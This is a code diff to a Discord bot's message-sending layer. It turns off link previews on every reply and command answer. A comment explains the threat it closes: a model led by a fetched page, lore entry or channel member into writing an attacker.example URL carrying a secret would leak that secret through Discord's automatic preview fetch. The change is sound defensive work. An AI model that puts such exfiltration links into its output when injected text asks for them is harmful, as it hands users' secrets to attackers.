@@ -198,9 +198,10 @@ class DiscordSink:
     def message_key(handle: discord.Message) -> str:
         return f"{PLATFORM}-message:{handle.id}"
 
-    # A reply the model wrote shows no link previews: Discord's servers fetch a previewed link at once, so a
-    # model talked into writing https://attacker.example/?secret=… (by a fetched page, a lore entry, another
-    # member) would hand the secret over without anyone clicking. Links stay links.
+    # What the bot sends shows no link previews (replies here; command answers, which may quote what a model
+    # wrote, below): Discord's servers fetch a previewed link at once, so a model talked into writing
+    # https://attacker.example/?secret=… (by a fetched page, a lore entry, another member) would hand the secret
+    # over without anyone clicking. Links stay links.
     async def send(self, text: str) -> discord.Message:
         try:
             return await self.channel.send(text, allowed_mentions=NO_PINGS, suppress_embeds=True)
@@ -240,7 +241,7 @@ class DiscordSink:
             text, files = _reply_payload(reply)
         pieces = split_message(text, LIMIT) or [""]
         for piece in pieces[:-1]:
-            await self.channel.send(piece, allowed_mentions=NO_PINGS)
+            await self.channel.send(piece, allowed_mentions=NO_PINGS, suppress_embeds=True)
         await _send_with_files(self.channel, pieces[-1], files)
 
     async def send_private(self, reply: CommandReply) -> None:
@@ -259,11 +260,11 @@ class DiscordSink:
 async def _send_with_files(target: discord.abc.Messageable, text: str, files: list[discord.File]) -> None:
     """Send ``text`` with ``files``; files over Discord's upload limit are replaced by a line saying so."""
     try:
-        await target.send(text or None, files=files, allowed_mentions=NO_PINGS)
+        await target.send(text or None, files=files, allowed_mentions=NO_PINGS, suppress_embeds=True)
     except discord.HTTPException as exc:
         if isinstance(exc, discord.Forbidden) or not (files and _too_large(exc)):
             raise
-        await target.send(_with_note(text, TOO_LARGE), allowed_mentions=NO_PINGS)
+        await target.send(_with_note(text, TOO_LARGE), allowed_mentions=NO_PINGS, suppress_embeds=True)
 
 
 def _patience(interaction: discord.Interaction) -> float:
@@ -558,9 +559,10 @@ class DiscordAdapter:
         text = SLASH_STALE if stale else SLASH_FAILED
         try:
             if interaction.response.is_done():
-                await interaction.followup.send(text, ephemeral=True, allowed_mentions=NO_PINGS)
+                await interaction.followup.send(text, ephemeral=True, allowed_mentions=NO_PINGS, suppress_embeds=True)
             else:
-                await interaction.response.send_message(text, ephemeral=True, allowed_mentions=NO_PINGS)
+                await interaction.response.send_message(text, ephemeral=True, allowed_mentions=NO_PINGS,
+                                                        suppress_embeds=True)
         except discord.HTTPException as exc:  # the interaction expired meanwhile
             log.warning("Discord: could not answer the failed interaction (%s)", exc)
 
@@ -573,10 +575,11 @@ class DiscordAdapter:
                 # with a neutral line, and the private answer comes as a second follow-up, which can be.
                 await interaction.edit_original_response(content=ANSWERED_PRIVATELY, allowed_mentions=NO_PINGS)
             await interaction.followup.send(text, files=files, ephemeral=reply.private or always_private,
-                                            allowed_mentions=NO_PINGS)
+                                            allowed_mentions=NO_PINGS, suppress_embeds=True)
         else:
             await interaction.response.send_message(
-                text, files=files, ephemeral=reply.private or always_private, allowed_mentions=NO_PINGS)
+                text, files=files, ephemeral=reply.private or always_private, allowed_mentions=NO_PINGS,
+                suppress_embeds=True)
 
 
 def read_token(config: DiscordConfig) -> str:
